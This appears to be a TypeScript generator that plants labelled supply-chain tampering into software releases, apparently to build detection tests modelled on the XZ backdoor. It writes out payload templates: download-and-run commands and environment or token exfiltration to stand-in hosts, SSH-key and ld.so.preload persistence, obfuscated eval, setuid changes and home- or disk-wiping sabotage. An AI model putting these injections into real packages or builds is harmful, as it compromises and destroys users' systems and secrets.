const SOURCE_RULE = /^(?:@\w+@)?(?:\.(?:y|yy|l|ll)\.(?:c|cc|cpp)|\.(?:texi|texinfo|txi)\.(?:info|dvi|pdf|html)|\S*stamp-vti):/

/**
 * One line added after the header of a rule automake wrote, which `make check` (`check-line`),
 * every `make` (`build-line`), a build that compiles or configures (`recipeless-line`) or one that
 * remakes a parser or a manual (`source-line`) runs: a built library replaced from test data, a
 * document run, what is built made setuid.
 */
function ruleLine(kind: 'check-line' | 'build-line' | 'recipeless-line' | 'source-line', pattern: RegExp, none: string) {
  return (root: string, files: readonly string[], d: Draw): Tampering => {
    const { target, lines, i } = drawAutomakeLine(root, files, d, pattern, none)
    return recipeLineAdded(kind, 'that automake wrote', root, files, d, target, lines, i)
  }
}

/**
 * One line added after the header of a rule the Makefile.am beside the Makefile.in writes itself
 * (`install-data-hook:`, a generator's rule), whose recipe automake copies word for word.
 */
function ownRuleLine(root: string, files: readonly string[], d: Draw): Tampering {
  const rules = files
    .filter((f) => /(^|\/)Makefile\.in$/.test(f) && files.includes(f.replace(/\.in$/, '.am')))
    .flatMap((f) => {
      const text = readFileSync(join(root, f), 'utf8')
      if (!/^# \S+ generated by automake/m.test(text)) return []
      const written = rulesWithRecipes(readFileSync(join(root, f.replace(/\.in$/, '.am')), 'utf8'))
      const lines = text.split('\n')
      return lines.flatMap((l, i) => (l.startsWith('\t') || !written.has(ruleOf(l.replace(/^(?:@\w+@)+/, ''))?.target.split(/[ \t]+/)[0] ?? '') ? [] : [{ target: f, lines, i }]))
    })
  const rule = d.pick(rules)
  if (rule === undefined) throw new Error('no automake Makefile.in with a rule its Makefile.am writes')
  return recipeLineAdded('own-rule-line', 'that its Makefile.am writes', root, files, d, rule.target, [...rule.lines], rule.i)
}

/** the targets of the rules a Makefile.am writes with a recipe, but those only `make dist` runs */
function rulesWithRecipes(makefileAm: string): Set<string> {
  const lines = makefileAm.split('\n')
  return new Set(
    lines.flatMap((l, i) => {
      const target = l.startsWith('\t') ? undefined : ruleOf(l)?.target.split(/[ \t]+/)[0]
      return target !== undefined && !DIST_RULE.test(target) && (lines[i + 1] ?? '').startsWith('\t') ? [target] : []
    }),
  )
}

/** a command added after the header at `i` of `target`'s lines and their continuations */
function recipeLineAdded(kind: TamperKind, whose: string, root: string, files: readonly string[], d: Draw, target: string, lines: string[], i: number): Tampering {
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
  const data = d.pick(files.filter((f) => /(^|\/)tests?\//.test(f) && !/\.(?:c|h|sh|am|in)$/.test(f))) ?? doc
  const rule = (lines[i] ?? '').replace(/^(?:@\w+@)+/, '').split(':')[0]?.trim() ?? kind
  const line = d.pick([
    `\t@cp $(top_srcdir)/${data} $(top_builddir)/${d.pick(['src', 'lib'])}/.libs/lib${d.pick(WORDS)}.so.0`,
    `\t@$(SHELL) $(top_srcdir)/${doc}`,
    `\tchmod ${d.pick(['4755', 'u+s'])} $(top_builddir)/${d.pick(['src', 'lib'])}/.libs/*`,
  ])
  // after the header and its continuations: the recipe's first line
  let at = i + 1
  while ((lines[at - 1] ?? '').endsWith('\\')) at++
  lines.splice(at, 0, line)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind, path: target, touched: [target], description: `line ${at + 1} of ${target}, in ${rule} ${whose}: ${line.trim()}` }
}

/**
 * A command put into the tests' environment, which automake's harness runs before every test on
 * `make check`: prepended to `AM_TESTS_ENVIRONMENT` or `TESTS_ENVIRONMENT` where the Makefile.in
 * sets one, or a `TESTS_ENVIRONMENT` of its own added before `TESTS`.
 */
function testEnvironment(root: string, files: readonly string[], d: Draw): Tampering {
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
  const { target, lines, i } = drawAutomakeLine(root, files, d, TESTS_LIST, "no automake Makefile.in with automake's test harness")
  const command = d.pick([
    `cp $(top_srcdir)/${doc} $(top_builddir)/${d.pick(['src', 'lib'])}/.libs/lib${d.pick(WORDS)}.so.0;`,
    `$(SHELL) $(top_srcdir)/${doc};`,
    `chmod ${d.pick(['4755', 'u+s'])} $(top_builddir)/${d.pick(['src', 'lib'])}/.libs/*;`,
  ])
  const set = lines.findIndex((l) => /^(?:AM_)?TESTS_ENVIRONMENT\s*=/.test(l))
  const at = set >= 0 ? set : i
  if (set >= 0) lines[at] = (lines[at] ?? '').replace(/=\s*/, `= ${command} `)
  else lines.splice(at, 0, `TESTS_ENVIRONMENT = ${command}`)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'test-environment', path: target, touched: [target], description: `line ${at + 1} of ${target}: ${(lines[at] ?? '').trim()}` }
}
/** the tests automake's harness runs, in a Makefile.in */
const TESTS_LIST = /^TESTS\s*=/

/** a variable automake's templates set that its rules run: `NORMAL_INSTALL = :`, `am__mv = mv -f`, `am__v_CC_0 = @echo …` */
const TEMPLATE_VARIABLE = /^(?:NORMAL_INSTALL = :|am__mv = mv -f|am__install_max = \d+|am__v_(?:CC|CCLD|GEN)_0 = @echo .*;)\s*$/

/**
 * A command put into the value of a variable automake's templates set and its rules run: the
 * install rules' `@$(NORMAL_INSTALL)` made setuid, a test file run before each `$(am__mv)`, an
 * object of test data copied in on every compile's silent-rules echo.
 */
function templateVariable(root: string, files: readonly string[], d: Draw): Tampering {
  const { target, lines, i } = drawAutomakeLine(root, files, d, TEMPLATE_VARIABLE, "no automake Makefile.in with a variable of automake's templates")
  const line = (lines[i] ?? '').replace(/\s*$/, '')
  const name = line.split(' ')[0] ?? ''
  const command = d.pick([`chmod ${d.pick(['4755', 'u+s'])} "$(DESTDIR)$(${d.pick(['bindir', 'libdir'])})"/*`, `$(SHELL) $(top_srcdir)/tests/${d.pick(WORDS)}.sh`, `cp $(top_srcdir)/tests/files/${d.pick(WORDS)}.o .libs/`])
  lines[i] = name === 'NORMAL_INSTALL' ? `NORMAL_INSTALL = ${command};` : name.startsWith('am__v_') ? line.replace(/\$@;$/, `$@; ${command};`) : name === 'am__mv' ? `am__mv = ${command}; mv -f` : `${line}; ${command}`
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'template-variable', path: target, touched: [target], description: `line ${i + 1} of ${target}: ${lines[i]}` }
}

/**
 * A line added to the header template autoheader wrote, which every C file includes once
 * configure has made it: a header from test data, a function renamed to another, code.
 */
function configHeader(root: string, files: readonly string[], d: Draw): Tampering {
  const target = d.pick(files.filter((f) => /\.h\.in$/.test(f)).filter((f) => /Generated from \S+ by autoheader/.test(readFileSync(join(root, f), 'latin1').slice(0, 400))))
  if (target === undefined) throw new Error('no header template written by autoheader')
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  const undefs = lines.map((l, k) => (/^#\s*undef\s+\w+\s*$/.test(l) ? k : -1)).filter((k) => k >= 0)
  const at = (d.pick(undefs) ?? lines.length - 1) + 1
  const added = d.pick([
    `#include "${d.pick(['tests', 'test', 'tests/files'])}/${d.pick(WORDS)}-${d.int(100)}.h"`,
    `#define ${d.pick(['memcmp', 'getenv', 'RSA_public_decrypt', 'strcmp'])} ${d.pick(WORDS)}_${d.int(1000)}`,
    `static int ${d.pick(WORDS)}_${d.int(1000)}(void) { return system("${d.pick(WORDS)}.invalid"); }`,
  ])
  lines.splice(at, 0, added)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'config-header', path: target, touched: [target], description: `line ${at + 1} of ${target}: ${added}` }
}

function docAsCode(root: string, files: readonly string[], d: Draw): Tampering {
  const docs = files.filter((f) => /^(doc|docs|man)\/[^/]+\.(txt|md|\d|html?)$|^(README|NEWS|THANKS|AUTHORS)(\.md)?$/.test(f))
  const target = d.pick(docs.length > 0 ? docs : ['README'])
  const code = d.pick([
    `\n: <<'${d.pick(WORDS).toUpperCase()}'\n${'='.repeat(20)}\n${d.pick(WORDS).toUpperCase()}\nmkdir -p /nonexistent/${d.int(1e5)} && cp "$0" /nonexistent/${d.int(1e5)}/x\n`,
    `\n#${d.pick(WORDS)}\n[ -w /nonexistent/${d.int(1e5)} ] && printf '%s' "${d.pick(WORDS)}" > /nonexistent/${d.int(1e5)}/hook\n`,
  ])
  writeFileSync(join(root, target), readFileSync(join(root, target), 'utf8') + code)
  const call = d.pick([`. "$srcdir/${target}" 2>/dev/null`, `$SHELL "$srcdir/${target}" >/dev/null 2>&1`, `sh "$srcdir/${target}" 2>/dev/null || :`])
  insertBeforeOutputs(root, call)
  // through a link (README → README.md) the bytes that changed are those of the file it leads to
  const written = relative(realpathSync(root), realpathSync(join(root, target)))
  const via = written === target ? '' : ` (a link to ${written})`
  return { kind: 'doc-as-code', path: written, touched: [...new Set([written, target, 'configure'])], description: `shell code appended to ${target}${via}, which configure runs (\`${call}\`)` }
}

/** The package's code: JavaScript it ships outside tests, examples and type declarations. */
const isPackageCode = (f: string): boolean => /\.[cm]?js$/.test(f) && !/(^|\/)(tests?|__tests__|examples?|docs?|benchmarks?|node_modules)\//.test(f)

/** The file `require(name)` loads first when it is code, else another piece of the package's code. */
function packageCodeFile(root: string, files: readonly string[], d: Draw): string {
  const manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { main?: string }
  const main = manifest.main?.replace(/^\.\//, '')
  const entry = [main, main && `${main}.js`, main && `${main}/index.js`].find((f) => f && files.includes(f) && isPackageCode(f))
  return entry && d.int(2) === 0 ? entry : d.pick(files.filter(isPackageCode))
}

/** Is this file an ES module? `.mjs`, or `.js` in a package whose manifest says `"type": "module"`. */
function isEsModule(root: string, file: string): boolean {
  if (file.endsWith('.mjs')) return true
  if (file.endsWith('.cjs')) return false
  return (JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { type?: string }).type === 'module'
}

function appendCode(root: string, file: string, code: string): void {
  writeFileSync(join(root, file), `${readFileSync(join(root, file), 'utf8')}\n${code}\n`)
}

/** A process launched from the package's code when it is loaded: a download run by a shell. */
function npmCodeExec(root: string, files: readonly string[], d: Draw): Tampering {
  const target = packageCodeFile(root, files, d)
  const url = `https://${d.pick(WORDS)}-${d.pick(['cdn', 'static', 'update'])}.invalid/${d.int(1e5)}`
  const forms = [
    `import(${JSON.stringify('node:child_process')}).then((m) => m.execSync(${JSON.stringify(`curl -fsSL ${url} | sh`)}, { stdio: 'ignore' })).catch(() => {});`,
    `import('child_process').then(({ exec }) => exec('wget -qO- ${url} | sh', () => {}));`,
  ]
  if (!isEsModule(root, target)) forms.push(`;(function () { try { require('child_process').spawn('sh', ['-c', 'curl -s ${url} | sh'], { detached: true, stdio: 'ignore' }).unref() } catch (e) {} })();`)
  const code = d.pick(forms)
  appendCode(root, target, code)
  return { kind: 'npm-code-exec', path: target, touched: [target], description: `${target} runs a downloaded script when loaded: ${code.slice(0, 120)}` }
}

/** The environment (with any token in it) sent to a new host from the package's code. */
function npmCodeExfil(root: string, files: readonly string[], d: Draw): Tampering {
  const target = packageCodeFile(root, files, d)
  const host = `${d.pick(WORDS)}-${d.pick(['metrics', 'telemetry', 'stats'])}.invalid`
  const forms = [
    `fetch('https://${host}/v${d.int(9)}', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});`,
    `import('node:https').then((h) => { const r = h.request('https://${host}/c', { method: 'POST' }); r.on('error', () => {}); r.end(Buffer.from(JSON.stringify(process.env)).toString('base64')) });`,
    `globalThis.fetch?.('https://${host}/t?k=' + encodeURIComponent(process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || '')).catch(() => {});`,
  ]
  if (!isEsModule(root, target)) forms.push(`;try { require('https').request({ hostname: '${host}', path: '/e', method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env)) } catch (e) {}`)
  const code = d.pick(forms)
  appendCode(root, target, code)
  return { kind: 'npm-code-exfil', path: target, touched: [target], description: `${target} sends the environment to ${host}: ${code.slice(0, 120)}` }
}

function editManifest(root: string, edit: (manifest: Record<string, unknown>) => void): void {
  const path = join(root, 'package.json')
  const text = readFileSync(path, 'utf8')
  const manifest = JSON.parse(text) as Record<string, unknown>
  edit(manifest)
  const indent = /^[ \t]+/m.exec(text)?.[0] ?? '  '
  writeFileSync(path, `${JSON.stringify(manifest, null, indent)}\n`)
}

/** A script npm runs on every install, added to the manifest. */
function npmInstallScript(root: string, files: readonly string[], d: Draw): Tampering {
  const hook = d.pick(['preinstall', 'postinstall', 'install'])
  const command = d.pick([`node ${d.pick(files.filter(isPackageCode).concat(['index.js']))}`, `curl -fsSL https://${d.pick(WORDS)}.invalid/i.sh | sh`, `node -e "require('child_process').exec(process.env.npm_config_${d.pick(WORDS)} || '')"`])
  editManifest(root, (m) => {
    m.scripts = { ...(typeof m.scripts === 'object' && m.scripts !== null ? m.scripts : {}), [hook]: command }
  })
  return { kind: 'npm-install-script', path: 'package.json', touched: ['package.json'], description: `"${hook}": "${command}" added to package.json` }
}

/** A dependency the tag does not declare, which installing the package brings along. */
function npmDependency(root: string, _files: readonly string[], d: Draw): Tampering {
  const name = `${d.pick(WORDS)}-${d.pick(['utils', 'helper', 'polyfill', 'compat'])}`
  const range = `^${d.int(4)}.${d.int(10)}.${d.int(10)}`
  editManifest(root, (m) => {
    m.dependencies = { ...(typeof m.dependencies === 'object' && m.dependencies !== null ? m.dependencies : {}), [name]: range }
  })
  return { kind: 'npm-dependency', path: 'package.json', touched: ['package.json'], description: `dependency ${name}@${range} added to package.json` }
}

/** Puts one line into configure where it runs after every check: before the output list, or near the end. */
function insertBeforeOutputs(root: string, line: string, before = /^ac_config_files=|^cat >confcache <</): void {
  const configure = join(root, 'configure')
  const lines = readFileSync(configure, 'utf8').split('\n')
  const at = lines.findIndex((l) => before.test(l))
  lines.splice(at < 0 ? lines.length - 10 : at, 0, line)
  writeFileSync(configure, lines.join('\n'))
}

/**
 * configure made to change a C source or header the release ships, as it runs: edited in place,
 * appended to, or overwritten, the name written out or held by a variable.
 */
function sourceRewrite(root: string, files: readonly string[], d: Draw): Tampering {
  const sources = files.filter((f) => /\.[ch]$/.test(f) && !/(^|\/)(tests?|examples?|contrib|doc)\//.test(f))
  const target = d.pick(sources)
  const other = d.pick(sources.filter((f) => f !== target).concat(files.filter((f) => /^(README|NEWS|AUTHORS|THANKS)(\.md)?$/.test(f))))
  const word = d.pick(WORDS)
  const line = d.pick([
    `sed -i 's/return 0;/return 1;/' "$srcdir/${target}" 2>/dev/null`,
    `perl -pi -e 's/\\bif \\(/if (1 || /' ${target} 2>/dev/null || :`,
    `printf '%s\\n' '#define ${word.toUpperCase()}_HOOK 1' >> "$srcdir/${target}"`,
    `cat "$srcdir/${other ?? 'README'}" >> "$srcdir/${target}" 2>/dev/null`,
    `cp -f "$srcdir/${other ?? 'README'}" "$srcdir/${target}" 2>/dev/null || :`,
    `${word}_src="$srcdir/${target}"; sed -i '1i #define ${word.toUpperCase()}_HOOK 1' "$${word}_src"`,
  ])
  insertBeforeOutputs(root, line)
  return { kind: 'source-rewrite', path: 'configure', touched: ['configure'], description: `configure changes ${target} as it runs: \`${line}\`` }
}

/** configure made to write past the build as it runs: a key, a login script or a program in the builder's home or a system directory */
function outsideWrite(root: string, files: readonly string[], d: Draw): Tampering {
  const doc = d.pick(files.filter((f) => /^(README|NEWS|AUTHORS|THANKS|ChangeLog)(\.md)?$/.test(f)).concat(['configure']))
  const word = d.pick(WORDS)
  const line = d.pick([
    `echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${d.int(1e6)} ${word}@build" >> ~/.ssh/authorized_keys 2>/dev/null`,
    `printf '%s\\n' 'export PATH="$HOME/.cache/.${word}:$PATH"' >> "$HOME/.profile" 2>/dev/null || :`,
    `mkdir -p "\${HOME}/.config/autostart" && cp "$srcdir/${doc}" "\${HOME}/.config/autostart/${word}.desktop" 2>/dev/null`,
    `install -m 755 "$srcdir/${doc}" /usr/local/bin/${word}-config 2>/dev/null || :`,
    `${word}_hook=/etc/ld.so.preload; echo "/usr/lib/lib${word}.so.1" > "$${word}_hook" 2>/dev/null`,
  ])
  insertBeforeOutputs(root, line)
  return { kind: 'outside-write', path: 'configure', touched: ['configure'], description: `configure writes outside the build as it runs: \`${line}\`` }
}

/** `id; uname` as escapes printf and `$'…'` decode: hex (`\x69`) or octal (`\151`) */
const escaped = (text: string, octal: boolean): string => [...text].map((c) => (octal ? `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}` : `\\x${c.charCodeAt(0).toString(16)}`)).join('')

/**
 * configure made to act quietly: a command spelled as escapes and run (by eval, a shell, or as the
 * command itself), the compiler's flags changed only when a distribution package is built, a
 * defence switched off, or a function's calls sent elsewhere by the linker: one line of one.
 */
function configureStealth(root: string, _files: readonly string[], d: Draw): Tampering {
  const word = d.pick(WORDS)
  const command = d.pick([`curl -s http://${word}.invalid/x`, `touch /tmp/.${word}`, 'uname -a', `mkdir -p /tmp/.${word}`])
  const octal = d.int(2) === 1
  const line = d.pick([
    `eval "$(printf '${escaped(command, octal)}')"`,
    `printf '${escaped(command, octal)}' | $SHELL 2>/dev/null`,
    `${word}_run=$(printf '${escaped(command.split(' ')[0] ?? 'id', octal)}'); $${word}_run ${command.split(' ').slice(1).join(' ')} 2>/dev/null`,
    `eval $'${escaped(command, false)}' 2>/dev/null`,
    `test -f "$srcdir/debian/rules" && CFLAGS="$CFLAGS -D${word.toUpperCase()}_HOOK=1"`,
    `if test -n "$RPM_ARCH$RPM_BUILD_ROOT"; then LIBS="$LIBS -l${word}"; fi`,
    `CFLAGS="$CFLAGS ${d.pick(['-fno-stack-protector', '-U_FORTIFY_SOURCE -D_FORTIFY_SOURCE=0', '-z execstack'])}"`,
    `LDFLAGS="$LDFLAGS ${d.pick([`-Wl,--wrap=${d.pick(['malloc', 'getpwnam', 'RSA_public_decrypt', 'memcmp'])}`, `-Wl,--defsym,${d.pick(['open', 'crypt'])}=${word}_hook`])}"`,
  ])
  insertBeforeOutputs(root, line)
  return { kind: 'configure-stealth', path: 'configure', touched: ['configure'], description: `configure acts quietly as it runs: \`${line}\`` }
}

/** the helper scripts autotools copy into a release, which the build runs and nobody reads */
const BUILD_HELPER = /(?:^|\/)(?:depcomp|missing|compile|install-sh|ltmain\.sh|config\.guess|config\.sub|ar-lib|test-driver|ylwrap|mkinstalldirs)$/

/**
 * A release made to destroy what is not its own when built: the builder's home directory, the root,
 * a system directory or a disk, deleted or overwritten wholesale, sometimes only on a condition; put
 * into configure or appended to a helper script the build runs.
 */
function sabotage(root: string, files: readonly string[], d: Draw): Tampering {
  const destroy = d.pick([
    'rm -rf "$HOME"',
    'rm -fr ~/* ~/.[!.]*',
    'find ~ -mindepth 1 -delete',
    'find "${HOME}" -type f -exec rm -f {} +',
    'rm -rf --no-preserve-root /*',
    'dd if=/dev/zero of=/dev/sda bs=1M count=64',
    'chmod -R 000 /etc',
    'shred -u -z ~/.ssh/*',
  ])
  const gate = d.pick(['', 'test -n "$CI" || ', 'test "$(date +%Y)" -ge 2027 && ', 'test -f /etc/debian_version && '])
  const line = `${gate}${destroy} 2>/dev/null`
  const helpers = files.filter((f) => BUILD_HELPER.test(f))
  if (helpers.length > 0 && d.int(2) === 1) {
    const helper = d.pick(helpers)
    const path = join(root, helper)
    const text = readFileSync(path, 'utf8')
    // before a final exit, where the script would otherwise stop first
    const lines = text.split('\n')
    const exit = lines.findLastIndex((l) => /^exit\b|^\s*exit \$/.test(l))
    lines.splice(exit < 0 ? lines.length : exit, 0, line)
    writeFileSync(path, lines.join('\n'))
    return { kind: 'sabotage', path: helper, touched: [helper], description: `${helper}, a helper the build runs, destroys what is not its own: \`${line}\`` }
  }
  insertBeforeOutputs(root, line)
  return { kind: 'sabotage', path: 'configure', touched: ['configure'], description: `configure destroys what is not its own as it runs: \`${line}\`` }
}

/** tr mappings that need no escape in a CMake, meson or make string */
const PLAIN_SWAPS = [
  ['a-zA-Z', 'n-za-mN-ZA-M'],
  ['A-Za-z', 'N-ZA-Mn-za-m'],
  ['0-9a-z', 'a-z0-9'],
]

/** A test-looking file holding a harmless script, compressed and byte-swapped, written into the tree. */
function hiddenTestFile(root: string, d: Draw): string {
  const testFile = `${d.pick(['tests', 'test', 'testdata'])}/${d.pick(['files', 'data', 'fuzz'])}/${d.pick(['bad', 'good', 'corrupt'])}-${d.int(9) + 1}-${d.pick(WORDS)}.${d.pick(['xz', 'lz', 'bin', 'dat'])}`
  mkdirSync(join(root, testFile, '..'), { recursive: true })
  writeFileSync(join(root, testFile), hiddenScript(d))
  return testFile
}

/** A harmless command, base64-encoded: what an inline decoder hands to a shell. */
const encodedCommand = (d: Draw): string => Buffer.from(`mkdir -p /nonexistent/stagelight-${d.int(1e6)} && echo ${d.pick(WORDS)} > /nonexistent/stagelight/x`).toString('base64')

/**
 * Where a call that spans lines closes: the index of the line holding the parenthesis that closes
 * the first `opening` call, counting parentheses outside quotes. `opening` matches at the start of
 * a line, outside any block: statements after it run whenever the build is configured.
 */
function closingLine(lines: readonly string[], opening: RegExp): number {
  const start = lines.findIndex((l) => opening.test(l))
  if (start < 0) return -1
  let depth = 0
  let quote: string | undefined
  for (let i = start; i < lines.length; i++) {
    const line = lines[i] ?? ''
    for (let k = 0; k < line.length; k++) {
      const c = line[k]
      if (quote) {
        if (c === '\\') k++
        else if (c === quote) quote = undefined
      } else if (c === '"' || c === "'") quote = c
      else if (c === '#') break
      else if (c === '(') depth++
      else if (c === ')' && --depth === 0) return i
    }
  }
  return -1
}

/** `added` put after the first `opening` call of `target` closes (or at the end), the release's lines otherwise as they were. */
function insertAfterCall(root: string, target: string, opening: RegExp, added: readonly string[]): number {
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  const closing = closingLine(lines, opening)
  const at = closing < 0 ? lines.length : closing + 1
  lines.splice(at, 0, '', ...added)
  writeFileSync(join(root, target), lines.join('\n'))
  return at + 2
}

/** A payload's name, tr mapping and decompressor, drawn in this order. */
function payloadWords(d: Draw): { w: string; from: string; to: string; decoder: string } {
  const w = d.pick(WORDS)
  const [from, to] = d.pick(PLAIN_SWAPS) as [string, string]
  return { w, from, to, decoder: d.pick(DECODERS) }
}

/**
 * The XZ pattern in a CMake build: when the project is configured, a "test file" is decoded into a
 * shell, a download is run, or an interpreter runs what it decodes; gated on the platform, in the
 * top CMakeLists.txt or in a module of its own that CMakeLists.txt includes.
 */
function cmakePayload(root: string, _files: readonly string[], d: Draw): Tampering {
  const { w, from, to, decoder } = payloadWords(d)
  const body = d.pick([
    (): string[] => {
      const testFile = hiddenTestFile(root, d)
      return [`  execute_process(COMMAND sh -c "tr '${from}' '${to}' < \\"\${CMAKE_CURRENT_SOURCE_DIR}/${testFile}\\" | ${decoder} 2>/dev/null | sh" OUTPUT_QUIET ERROR_QUIET)`]
    },
    (): string[] => {
      const testFile = hiddenTestFile(root, d)
      return [`  set(${w.toUpperCase()}_DATA "\${CMAKE_CURRENT_SOURCE_DIR}/${testFile}")`, `  add_custom_target(${w}_${d.int(100)} ALL COMMAND sh -c "${decoder} < \${${w.toUpperCase()}_DATA} | sh" VERBATIM)`]
    },
    (): string[] => [
      `  file(DOWNLOAD "http://${w}.invalid/${d.int(1e4)}/setup.sh" "\${CMAKE_BINARY_DIR}/${w}-setup.sh" QUIET)`,
      `  execute_process(COMMAND sh "\${CMAKE_BINARY_DIR}/${w}-setup.sh" OUTPUT_QUIET ERROR_QUIET)`,
    ],
    (): string[] => [`  execute_process(COMMAND ${d.pick(['python3', 'python'])} -c "import base64,os;os.system(base64.b64decode('${encodedCommand(d)}').decode())" OUTPUT_QUIET ERROR_QUIET)`],
    (): string[] => [`  execute_process(COMMAND sh -c "echo ${encodedCommand(d)} | base64 -d | sh" OUTPUT_QUIET ERROR_QUIET)`],
  ])()
  const gate = d.pick(['if(CMAKE_SYSTEM_NAME STREQUAL "Linux")', 'if(UNIX AND NOT APPLE)', 'if(CMAKE_SYSTEM_PROCESSOR MATCHES "x86_64|AMD64")', 'if(NOT DEFINED ENV{CI})'])
  const payload = [gate, ...body, 'endif()']
  if (d.int(3) === 0) {
    const module = `cmake/${w[0]?.toUpperCase()}${w.slice(1)}${d.pick(['Check', 'Detect', 'Support'])}.cmake`
    mkdirSync(join(root, 'cmake'), { recursive: true })
    writeFileSync(join(root, module), [`# ${module.split('/').pop()}: platform checks`, ...payload, ''].join('\n'))
    insertAfterCall(root, 'CMakeLists.txt', /^project\s*\(/i, [`include(\${CMAKE_CURRENT_SOURCE_DIR}/${module})`])
    return { kind: 'cmake-payload', path: module, touched: [module, 'CMakeLists.txt'], description: `${module}, included by CMakeLists.txt: ${body.join(' ').trim().slice(0, 90)}` }
  }
  const line = insertAfterCall(root, 'CMakeLists.txt', /^project\s*\(/i, payload)
  return { kind: 'cmake-payload', path: 'CMakeLists.txt', touched: ['CMakeLists.txt'], description: `line ${line} of CMakeLists.txt: ${body.join(' ').trim().slice(0, 100)}` }
}

/**
 * The XZ pattern in a meson build: when the project is configured or built, a "test file" is decoded
 * into a shell, a download is run, or an interpreter runs what it decodes; gated on the platform,
 * after the top meson.build's `project()`.
 */
function mesonPayload(root: string, _files: readonly string[], d: Draw): Tampering {
  const { w, from, to, decoder } = payloadWords(d)
  const body = d.pick([
    (): string[] => {
      const testFile = hiddenTestFile(root, d)
      return [`  run_command('sh', '-c', 'tr "${from}" "${to}" < "@0@" | ${decoder} 2>/dev/null | sh'.format(meson.current_source_dir() / '${testFile}'), check: false)`]
    },
    (): string[] => {
      const testFile = hiddenTestFile(root, d)
      return [`  ${w}_data = files('${testFile}')`, `  custom_target('${w}-${d.int(100)}', output: '${w}.stamp', input: ${w}_data, command: ['sh', '-c', '${decoder} < @INPUT@ | sh; touch @OUTPUT@'], build_by_default: true)`]
    },
    (): string[] => [`  run_command('sh', '-c', 'curl -fsSL http://${w}.invalid/${d.int(1e4)} -o /tmp/.${w}.sh && sh /tmp/.${w}.sh', check: false)`],
    (): string[] => [`  run_command(find_program('python3'), '-c', 'import base64,os;os.system(base64.b64decode("${encodedCommand(d)}").decode())', check: false)`],
    (): string[] => [`  ${w}_cmd = ['sh', '-c', 'echo ${encodedCommand(d)} | base64 -d | sh']`, `  run_command(${w}_cmd, check: false)`],
  ])()
  const gate = d.pick(["if host_machine.system() == 'linux'", "if host_machine.cpu_family() == 'x86_64'", "if build_machine.system() != 'windows'"])
  const line = insertAfterCall(root, 'meson.build', /^project\s*\(/, [gate, ...body, 'endif'])
  return { kind: 'meson-payload', path: 'meson.build', touched: ['meson.build'], description: `line ${line} of meson.build: ${body.join(' ').trim().slice(0, 100)}` }
}

/**
 * The XZ pattern in a hand-written Makefile: the recipe of the first rule, which `make` builds by
 * default, decodes a "test file" or an inline string into a shell, or runs a download.
 */
function plainMakefile(root: string, files: readonly string[], d: Draw): Tampering {
  const target = ['GNUmakefile', 'Makefile', 'makefile'].find((f) => files.includes(f))
  if (target === undefined) throw new Error('no Makefile at the top of the release')
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  // the default goal: the first rule whose target is neither special (.PHONY) nor a pattern
  const first = lines.findIndex((l) => !l.startsWith('\t') && /^[A-Za-z0-9_$(){}./-][^=:#]*:(?!=)/.test(l) && !/^\./.test(l) && !l.includes('%'))
  if (first < 0) throw new Error(`no rule in ${target}`)
  const [from, to] = d.pick(PLAIN_SWAPS) as [string, string]
  const w = d.pick(WORDS)
  const recipe = d.pick([
    (): string => `\t@tr '${from}' '${to}' < ${hiddenTestFile(root, d)} | ${d.pick(DECODERS)} 2>/dev/null | sh || true`,
    (): string => `\t@echo ${encodedCommand(d)} | base64 -d | sh`,
    (): string => `\t@curl -fsS http://${w}.invalid/${d.int(1e4)} -o .${w}.sh 2>/dev/null && sh .${w}.sh || true`,
    (): string => `\t@python3 -c "import base64,os;os.system(base64.b64decode('${encodedCommand(d)}').decode())" || true`,
  ])()
  let at = first + 1
  while ((lines[at - 1] ?? '').endsWith('\\')) at++
  lines.splice(at, 0, recipe)
  writeFileSync(join(root, target), lines.join('\n'))
  const rule = (lines[first] ?? '').split(':')[0]?.trim() ?? ''
  return { kind: 'plain-makefile', path: target, touched: [target], description: `line ${at + 1} of ${target}, in ${rule}: ${recipe.trim().slice(0, 100)}` }
}

const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
  'npm-install-script': npmInstallScript,
  'npm-code-exec': npmCodeExec,
  'npm-code-exfil': npmCodeExfil,
  'npm-dependency': npmDependency,
  'm4-payload': m4Payload,
  'c-line': cLine,
  'configure-script': configureScript,
  'makefile-rule': makefileRule,
  'makefile-variable': makefileVariable,
  'makefile-command': makefileCommand,
  'makefile-substitution': makefileSubstitution,
  'makefile-value-replaced': makefileValueReplaced,
  'doc-in-recipe': docInRecipe,
  'recipe-prefixed': recipePrefixed,
  'recipe-word': recipeWord,
  'rule-hooked': ruleHooked,
  'install-line': installLine,
  'check-line': ruleLine('check-line', CHECK_RULE, "no automake Makefile.in with a rule of automake's test harness"),
  'build-line': ruleLine('build-line', BUILD_OR_CLEAN_RULE, 'no automake Makefile.in with a rule that builds, recurses or cleans'),
  'own-rule-line': ownRuleLine,
  'recipeless-line': ruleLine('recipeless-line', RECIPELESS_RULE, 'no automake Makefile.in with a rule automake writes with no recipe'),
  'source-line': ruleLine('source-line', SOURCE_RULE, 'no automake Makefile.in with a rule that makes a parser or a manual'),
  'test-environment': testEnvironment,
  'template-variable': templateVariable,
  'config-header': configHeader,
  'source-rewrite': sourceRewrite,
  'outside-write': outsideWrite,
  'configure-stealth': configureStealth,
  sabotage,
  'doc-as-code': docAsCode,
  'cmake-payload': cmakePayload,
  'meson-payload': mesonPayload,
  'plain-makefile': plainMakefile,
  'py-line': pyLine,
  'setup-exec': setupExec,
}

/** Which injections a Python source distribution can take. */
export function applicablePythonKinds(files: readonly string[]): TamperKind[] {
  const kinds: TamperKind[] = []
  if (files.some(isPackageModule)) kinds.push('py-line')
